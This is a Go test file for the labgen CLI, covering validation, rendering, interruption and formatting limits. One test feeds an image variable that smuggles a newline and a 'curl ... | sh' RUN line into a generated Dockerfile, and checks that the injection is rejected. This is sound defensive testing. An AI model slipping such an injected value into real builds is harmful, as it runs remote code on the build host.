package cli

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/labgen/labgen/schemas"
)

// TestRenderRefusesInjection: a Flink image with a line break and a RUN
// command (it was written into the Flink Dockerfile as a RUN line) is an
// error at validate and render, and render writes nothing at all.
func TestRenderRefusesInjection(t *testing.T) {
	dir := t.TempDir()
	lab := filepath.Join(dir, "lab")
	if err := os.MkdirAll(lab, 0o755); err != nil {
		t.Fatal(err)
	}
	src := "lab \"inject\" {\n  title = \"Injection\"\n}\n\nstack {\n  mysql {}\n  flink {\n    image = var.image\n  }\n}\n\nvariable \"image\" {\n  default = \"flink:1.20.1\"\n}\n"
	if err := os.WriteFile(filepath.Join(lab, "lab.hcl"), []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out")
	hostile := "image=flink:1.20.1\nRUN curl -fsSL https://example.com/x | sh"
	for _, args := range [][]string{
		{"validate", lab, "-var", hostile},
		{"render", lab, "-o", out, "-var", hostile},
	} {
		code, _, stderr := run(t, dir, nil, args...)
		if code != ExitLabErrors || !strings.Contains(stderr, "DIR/lab/lab.hcl:8:13: Error: Invalid image") {
			t.Errorf("%s: exit %d, stderr:\n%s", args[0], code, stderr)
		}
	}
	if _, err := os.Stat(out); !os.IsNotExist(err) {
		t.Errorf("render wrote %s: %v", out, err)
	}
}

// TestInterrupted: once the context ends (Ctrl-C), validate, render and
// fmt stop with exit code 3 and write nothing.
func TestInterrupted(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	dir := t.TempDir()
	lab := filepath.Join(dir, "lab")
	if err := os.MkdirAll(lab, 0o755); err != nil {
		t.Fatal(err)
	}
	unformatted := []byte("lab \"x\" {\ntitle=\"X\"\n}\nstack {\nmysql {}\n}\n")
	if err := os.WriteFile(filepath.Join(lab, "lab.hcl"), unformatted, 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out")
	for _, args := range [][]string{
		{"validate", "../labs/orders"},
		{"render", "../labs/orders", "-o", out},
		{"fmt", lab},
	} {
		var stdout, stderr bytes.Buffer
		start := time.Now()
		code := RunEnv(ctx, args, &Env{Stdout: &stdout, Stderr: &stderr, Stdin: strings.NewReader("")})
		if code != ExitRunFailed || stderr.String() != "labgen "+args[0]+": interrupted\n" {
			t.Errorf("%s: exit %d, stderr %q", args[0], code, stderr.String())
		}
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s took %v to stop", args[0], d)
		}
	}
	if _, err := os.Stat(out); !os.IsNotExist(err) {
		t.Errorf("render wrote %s: %v", out, err)
	}
	if b, _ := os.ReadFile(filepath.Join(lab, "lab.hcl")); !bytes.Equal(b, unformatted) {
		t.Errorf("fmt rewrote the file:\n%s", b)
	}
}

// TestFmtLimits: fmt reads a file only within the loader's limits, and
// leaves one beyond them untouched, saying why.
func TestFmtLimits(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{
		"big.hcl":  "# " + strings.Repeat("x", schemas.MaxHCLFileBytes) + "\n",
		"deep.hcl": "x = " + strings.Repeat("(", 100_000) + "1" + strings.Repeat(")", 100_000) + "\n",
	}
	for name, src := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	code, _, stderr := run(t, dir, nil, "fmt", "-check", dir)
	if code != ExitLabErrors ||
		!strings.Contains(stderr, "DIR/big.hcl:1:1: Error: File too large") ||
		!strings.Contains(stderr, "DIR/deep.hcl:1:") || !strings.Contains(stderr, "Error: Expression nested too deeply") ||
		!strings.Contains(stderr, "labgen fmt: files with errors were left untouched") {
		t.Errorf("exit %d, stderr:\n%.2000s", code, stderr)
	}
	for name, src := range files {
		if b, _ := os.ReadFile(filepath.Join(dir, name)); string(b) != src {
			t.Errorf("%s changed", name)
		}
	}
}
